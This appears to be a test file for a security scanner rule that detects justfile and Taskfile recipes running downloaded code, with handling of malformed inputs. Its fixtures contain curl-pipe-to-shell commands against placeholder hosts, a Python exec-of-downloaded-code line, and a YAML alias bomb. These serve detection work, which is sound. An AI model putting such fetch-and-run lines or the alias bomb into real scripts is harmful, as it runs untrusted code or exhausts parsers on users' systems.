import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { it } from 'node:test';
import { describeFixtures, findingsOf, scanFixture, tempRepo } from '../../../../test/helpers/fixtures.ts';
import rule from './rule.ts';

describeFixtures(rule, import.meta.url);

const fixture = (name: string): string => fileURLToPath(new URL(`./fixtures/${name}`, import.meta.url));

it('maps each recipe under the trigger its name implies, and the README that says `just setup` reaches it', async () => {
  const report = await scanFixture(fixture('match/just-setup-pipe'));
  assert.deepEqual(
    report.executionMap
      .filter(s => s.kind === 'just-recipe')
      .map(s => `${s.trigger} ${s.name ?? ''} ${String(s.location.line)}`)
      .sort(),
    ['build default (default recipe) 4', 'dev dev 12', 'install setup 7'],
  );
  const [f] = findingsOf(report, 'autorun/task-runner');
  assert.equal(
    f?.message,
    '`just setup` runs `curl -fsSL https://cdn.example.invalid/setup/bootstrap.sh | bash`, which runs code it downloads.',
  );
  const readme = report.executionMap.find(s => s.kind === 'readme-command' && s.command === 'just setup');
  assert.equal(readme?.trigger, 'install');
});

it('a private dependency runs a local script: the script is the entry, and its own finding raises the recipe', async () => {
  const report = await scanFixture(fixture('match/just-dependency-script'));
  const start = report.executionMap.find(s => s.kind === 'just-recipe' && s.name === 'start (default recipe)');
  assert.equal(start?.trigger, 'start');
  assert.equal(start.entry, 'scripts/prepare.sh');
  assert.equal(report.executionMap.filter(s => s.kind === 'just-recipe').length, 1, 'private recipes are not listed on their own');
  const [f] = findingsOf(report, 'autorun/task-runner');
  assert.match(
    f?.message ?? '',
    /^`just start` runs `\.\/scripts\/prepare\.sh` \(through `_prepare`\)\. The code it runs is reported by code\/shell-script \(critical\)/,
  );
});

it('a step that several tasks run is one finding; dynamic variables run on any `task`', async () => {
  const report = await scanFixture(fixture('match/taskfile-download-run'));
  assert.deepEqual(
    report.executionMap
      .filter(s => s.kind === 'taskfile-task')
      .map(s => `${s.trigger} ${s.name ?? ''}`)
      .sort(),
    ['build default (default task)', 'install install'],
  );
  assert.equal(findingsOf(report, 'autorun/task-runner').length, 1);
  const dyn = await scanFixture(fixture('match/taskfile-dynamic-var'));
  assert.deepEqual(
    dyn.executionMap
      .filter(s => s.kind === 'taskfile-task')
      .map(s => `${s.trigger} ${s.name ?? ''}`)
      .sort(),
    ['build (load time)', 'build build'],
  );
  const build = dyn.executionMap.find(s => s.name === 'build');
  assert.equal(build?.command, 'go build -o bin/dashboard ./cmd/dashboard', 'static variables are expanded');
});

it('bad task-runner files: binary junk, broken YAML, an alias bomb, a missing import, a huge justfile', async () => {
  const bomb = [
    'a: &a ["x","x","x","x","x","x","x","x","x"]',
    ...Array.from(
      { length: 8 },
      (_, i) =>
        `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)}]`,
    ),
  ].join('\n');
  const dir = tempRepo({
    'a/justfile': Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 3, 0, 0, 0xff, 0xfe]),
    'b/Taskfile.yml': 'version: 3\ntasks:\n  setup:\n    cmds: [curl -s https://x.example.invalid | sh\n',
    'c/Taskfile.yml': `${bomb}\ntasks:\n  setup:\n    cmds: [echo ok]\n`,
    'd/justfile': "import 'missing.just'\nbuild:\n    cargo build\n",
    'e/justfile': `${'# filler\n'.repeat(120_000)}setup:\n    curl -s https://x.example.invalid | sh\n`,
  });
  try {
    const report = await scanFixture(dir);
    const gap = (file: string): string =>
      report.errors
        .filter(e => e.file === file)
        .map(e => `${e.kind ?? '-'} ${e.message}`)
        .join('\n');
    assert.match(gap('a/justfile'), /^unreadable /);
    assert.match(gap('b/Taskfile.yml'), /^unparseable .*not valid YAML/);
    assert.match(gap('c/Taskfile.yml'), /^unparseable .*aliases/);
    assert.match(gap('d/justfile'), /`import missing\.just` \(line 1\) names a file that is not in the repository; just refuses/);
    assert.match(gap('e/justfile'), /^truncated .*more than 100000 lines/);
    const incomplete = findingsOf(report, 'scan/incomplete-analysis').map(f => `${f.severity} ${f.location.file}`);
    for (const file of ['a/justfile', 'b/Taskfile.yml', 'c/Taskfile.yml', 'e/justfile'])
      assert.ok(incomplete.includes(`high ${file}`), incomplete.join('\n'));
    assert.notEqual(report.verdict, 'pass');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

it('follows `import`, `mod` and `includes` within the repository, naming module recipes and included tasks as just and task do', async () => {
  const just = await scanFixture(fixture('match/just-module-import'));
  assert.deepEqual(
    just.executionMap
      .filter(s => s.kind === 'just-recipe')
      .map(s => `${s.trigger} ${s.name ?? ''} ${s.location.file}:${String(s.location.line)}`)
      .sort(),
    ['install setup (default recipe) justfile:5', 'install tools::bootstrap tools/mod.just:2', 'start run justfile:8'],
  );
  const [setup] = findingsOf(just, 'autorun/task-runner');
  assert.equal(setup?.ruleId, 'autorun/task-runner');
  const task = await scanFixture(fixture('match/taskfile-include'));
  assert.deepEqual(
    task.executionMap
      .filter(s => s.kind === 'taskfile-task')
      .map(s => `${s.name ?? ''} ${s.location.file}`)
      .sort(),
    ['setup Taskfile.yml', 'tools:fetch tasks/tools.yml'],
    'an internal task is not listed on its own; an optional include that is absent is no gap',
  );
  assert.deepEqual(task.errors, []);
});

it('reads a `#!/usr/bin/env python3` recipe with the Python analysis: the line that runs downloaded code is the finding', async () => {
  const report = await scanFixture(fixture('match/just-python-shebang'));
  const [f] = findingsOf(report, 'autorun/task-runner');
  assert.equal(
    f?.message,
    '`just setup` runs `exec(urllib.request.urlopen(mirror).read())`, which downloads code and runs it with `exec`.',
  );
  assert.equal(f.location.line, 8);
});
